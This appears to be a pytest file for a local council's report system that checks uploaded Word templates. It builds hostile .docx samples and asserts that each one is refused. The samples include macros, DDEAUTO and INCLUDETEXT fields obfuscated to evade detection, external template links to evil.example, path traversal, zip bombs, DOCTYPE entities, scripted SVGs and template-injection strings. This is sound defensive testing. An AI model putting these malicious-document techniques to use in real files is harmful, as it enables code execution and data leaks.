"""The council's Word template: its look is kept, and a hostile one is refused."""

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from sample_pack import pack

from clearline.kit.errors import BadInput
from clearline.reports.formats import docx
from clearline.reports.formats.look import Look
from clearline.reports.printing import printed
from clearline.reports.word_template import LARGEST, LARGEST_XML, MOST_PARTS, checked

RELATIONS = "word/_rels/document.xml.rels"


def template(change: Callable[..., None] | None = None) -> bytes:
    document = Document()
    document.add_paragraph("Children's Scrutiny Committee: {{ title }}")
    document.add_paragraph("{{report}}")
    document.add_paragraph("The end of the paper of {{council}}, {{date}}. {{unknown}}")
    document.sections[0].footer.paragraphs[0].text = "Northmoor Council, {{number}}"
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(content: bytes, **parts: bytes) -> bytes:
    """Return an archive with some parts changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, value in parts.items():
            new.writestr(name, value)
    return out.getvalue()


def part(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def made(content: bytes) -> Any:
    shown = printed(pack("restricted"), "whole")
    return Document(io.BytesIO(docx.render(shown, Look(template=checked(content)))))


def test_the_report_stands_where_the_template_wants_it_and_its_words_are_filled_in() -> None:
    document = made(template())
    texts = [one.text for one in document.paragraphs]
    assert texts[0] == "Children's Scrutiny Committee: Lead member's briefing"
    assert texts[-1] == "The end of the paper of Northmoor Council, 31 March 2026. {{unknown}}"
    assert "{{report}}" not in texts
    assert texts.index("Summary") > 0
    section = document.sections[0]
    assert section.footer.paragraphs[0].text == "Northmoor Council, 2026-01"
    assert "Restricted" in section.header.paragraphs[0].text


def test_without_a_place_the_report_stands_at_the_end() -> None:
    def plain(document: Any) -> None:
        document.paragraphs[1].text = "Foreword"

    texts = [one.text for one in made(template(plain)).paragraphs]
    assert texts.index("Foreword") < texts.index("Lead member's briefing") < texts.index("Summary")


def test_marks_are_on_first_and_even_pages_and_in_every_section_of_its_own() -> None:
    def many(document: Any) -> None:
        document.sections[0].different_first_page_header_footer = True
        document.settings.odd_and_even_pages_header_footer = True
        document.add_section()
        later = document.add_section()
        later.header.is_linked_to_previous = False

    document = made(template(many))
    first, linked, own = document.sections
    for header in (first.header, first.first_page_header, first.even_page_header, own.header):
        assert "Restricted" in "".join(one.text for one in header.paragraphs)
    assert linked.header.is_linked_to_previous


def test_styles_that_a_template_lacks_are_made() -> None:
    def bare(document: Any) -> None:
        for name in ("Heading 1", "Heading 2", "Title", "Subtitle", "List Bullet"):
            document.styles[name].delete()

    document = made(template(bare))
    assert document.styles["Heading 1"].type == WD_STYLE_TYPE.PARAGRAPH
    level = document.styles["Heading 2"].element.xpath("w:pPr/w:outlineLvl/@w:val")
    assert level == ["1"]


def test_what_its_author_left_in_the_properties_is_not_passed_on() -> None:
    def signed(document: Any) -> None:
        document.core_properties.author = "Somebody Private"
        document.core_properties.comments = "not for others"

    kept = made(template(signed)).core_properties
    assert (kept.author, kept.comments) == ("Northmoor Council", "")


def relation(target: str, kind: str = "attachedTemplate") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return part(template(), RELATIONS).replace(b"</Relationships>", one.encode())


def field(code: str) -> bytes:
    text = part(template(), "word/document.xml")
    return text.replace(b"</w:body>", f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p></w:body>".encode())


def written(inside: str) -> bytes:
    """Return a template with something more in its body."""
    text = part(template(), "word/document.xml")
    return repacked(template(), **{"word/document.xml": text.replace(b"</w:body>", f"{inside}</w:body>".encode())})


def codes(*pieces: str) -> bytes:
    """Return a template with a field whose code is in pieces."""
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return written(f"<w:p>{begin}{runs}{end}</w:p>")


def related(mode: str, kind: str = "image", head: str = "") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    one = f'<Relationship {head}Id="rIdX" Type="{base}/{kind}" Target="https://evil.example/p.png" {mode}/>'
    rels = part(template(), RELATIONS).replace(b"</Relationships>", f"{one}</Relationships>".encode())
    return repacked(template(), **{RELATIONS: rels})


SPACE = 'xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "[Content_Types].xml"
MACRO = b'<Override PartName="/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
HOSTILE: dict[str, Callable[[], bytes]] = {
    "no archive": lambda: b"PK no",
    "no document": lambda: repacked(template(), **{TYPES: b"<Types/>"}),
    "too large": lambda: b"x" * (LARGEST + 1),
    "a macro": lambda: repacked(template(), **{"word/vbaProject.bin": b"x"}),
    "a macro by its type": lambda: repacked(
        template(), **{TYPES: part(template(), TYPES).replace(b"</Types>", MACRO + b"</Types>")}),
    "an embedded object": lambda: repacked(template(), **{"word/embeddings/oleObject1.bin": b"x"}),
    "an attached template": lambda: repacked(template(), **{RELATIONS: relation("https://evil.example/t.dotm")}),
    "a linked picture": lambda: repacked(template(), **{RELATIONS: relation("https://evil.example/p.png", "image")}),
    "a link to a file": lambda: repacked(template(), **{RELATIONS: relation("file:///c:/x", "hyperlink")}),
    "a document type": lambda: repacked(
        template(), **{"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]>' + part(template(), "word/document.xml")}),
    "another encoding": lambda: repacked(
        template(), **{"word/document.xml": part(template(), "word/document.xml").decode().encode("utf-16")}),
    "an encoding that it says": lambda: repacked(
        template(), **{"word/document.xml": b"<?xml version='1.0' encoding='UTF-7'?><a/>"}),
    "a field that fetches": lambda: repacked(template(), **{"word/document.xml": field(" INCLUDETEXT http://x ")}),
    "a field that runs": lambda: repacked(template(), **{"word/document.xml": field(" DDEAUTO c:\\x ")}),
    "a part outside": lambda: repacked(template(), **{"../evil.xml": b"<a/>"}),
    "too many parts": lambda: repacked(template(), **{f"word/p{number}.xml": b"<a/>" for number in range(MOST_PARTS)}),
    "two parts of one name": lambda: repacked(template(), **{"WORD/document.xml": b"<a/>"}),
    "a bomb": lambda: repacked(template(), **{"word/media/big.bin": bytes(61_000_000)}),
    "a field in small letters": lambda: codes(" includetext http://x "),
    "a field in pieces": lambda: codes("INCLUDE", "TEXT http://x"),
    "a field in code of XML": lambda: codes("INCLUDE&#84;EXT http://x"),
    "a field without its beginning": lambda: written("<w:p><w:r><w:instrText>RD c:/x</w:instrText></w:r></w:p>"),
    "a field in one": lambda: written("<w:p><w:fldSimple w:instr='INCLUDE&#80;ICTURE http://x'/></w:p>"),
    "a field under another prefix": lambda: written(
        f"<q:p {SPACE}><q:r><q:instrText>DDE x</q:instrText></q:r></q:p>"),
    "a link of a field to a file": lambda: codes('HYPERLINK "file:///c:/x"'),
    "an object under another prefix": lambda: written(f"<w:p><q:object {SPACE}/></w:p>"),
    "a relation in code of XML": lambda: related('TargetMode="Ext&#101;rnal"'),
    "a relation that hides its end": lambda: related('TargetMode="External"', head='Title=">" '),
    "a relation that says another kind too": lambda: related(
        """TargetMode="External" Title="Type='/hyperlink' Target='https://'" """),
    "a relation to elsewhere that does not say so": lambda: related(""),
    "a mail merge": lambda: repacked(template(), **{"word/settings.xml": part(template(), "word/settings.xml").replace(
        b"</w:settings>", b"<w:mailMerge/></w:settings>")}),
    "a part of another kind": lambda: repacked(template(), **{"word/second.dat": b"<w:hdr/>"}),
    "a drawing that runs": lambda: repacked(template(), **{"word/media/a.svg": b"<svg><script>1</script></svg>"}),
    "a drawing that fetches": lambda: repacked(
        template(), **{"word/media/a.svg": b'<svg><image href="http://x"/></svg>'}),
    "tracked changes": lambda: written('<w:p><w:ins w:id="1" w:author="Somebody Private"/></w:p>'),
    "a tracked change of a section": lambda: written(
        '<w:sectPr><w:sectPrChange w:id="1" w:author="Somebody Private"/></w:sectPr>'),
    "a tracked cell": lambda: written('<w:p><w:cellIns w:id="1" w:author="Somebody Private"/></w:p>'),
    "comments": lambda: repacked(template(), **{"word/comments.xml": b"<comments><comment/></comments>"}),
    "a part on a drive": lambda: repacked(template(), **{"C:/evil.xml": b"<a/>"}),
    "something before the archive": lambda: b"%PDF-1.7 " + template(),
    "a part with very many words": lambda: repacked(
        template(), **{"word/more.xml": b"<a>" + b" " * LARGEST_XML + b"</a>"}),
    "no XML": lambda: repacked(template(), **{"word/more.xml": b"<a><b></a>"}),
    "what cannot be opened": lambda: repacked(template(), **{"word/document.xml": b"<a/>"}),
}  # fmt: skip


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_template_that_could_do_harm_or_cannot_be_used_is_refused_with_what_to_do(kind: str) -> None:
    with pytest.raises(BadInput, match="Save it in Word as a plain Word document"):
        checked(HOSTILE[kind]())


def test_fields_that_work_out_something_of_the_document_itself_are_no_harm() -> None:
    for code in (" PAGE ", ' TOC \\o "1-1" ', 'HYPERLINK "https://www.northmoor.example"', "HYPERLINK \\l top", " "):
        assert checked(codes(code))


def test_other_properties_of_the_template_are_not_passed_on() -> None:
    app = part(template(), "docProps/app.xml").replace(
        b"</Properties>", b"<Manager>Somebody Private</Manager><HyperlinkBase>Private</HyperlinkBase></Properties>"
    )
    custom = b'<Properties><property name="Owner"><vt:lpwstr xmlns:vt="v">Private</vt:lpwstr></property></Properties>'
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties"
    rels = part(template(), "_rels/.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rX" Type="{base}" Target="docProps/custom.xml"/></Relationships>'.encode(),
    )
    types = part(template(), TYPES).replace(
        b"</Types>", b'<Override PartName="/docProps/custom.xml" ContentType="application/xml"/></Types>'
    )
    mine = repacked(template(), **{
        "docProps/app.xml": app, "docProps/custom.xml": custom, "_rels/.rels": rels, TYPES: types})  # fmt: skip
    content = docx.render(printed(pack("open"), "open"), Look(template=checked(mine)))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert {"docProps/app.xml", "docProps/custom.xml"} <= set(archive.namelist())
        assert not [name for name in archive.namelist() if b"Private" in archive.read(name)]


def test_a_link_to_the_councils_site_is_no_harm() -> None:
    content = repacked(template(), **{RELATIONS: relation("https://www.northmoor.example", "hyperlink")})
    assert checked(content) == content


def test_a_template_runs_nothing_that_stands_in_double_braces() -> None:
    def wild(document: Any) -> None:
        document.add_paragraph("{{ ''.__class__ }} {% for a in b %} {{ 7*7 }}")

    texts = [one.text for one in made(template(wild)).paragraphs]
    assert "{{ ''.__class__ }} {% for a in b %} {{ 7*7 }}" in texts
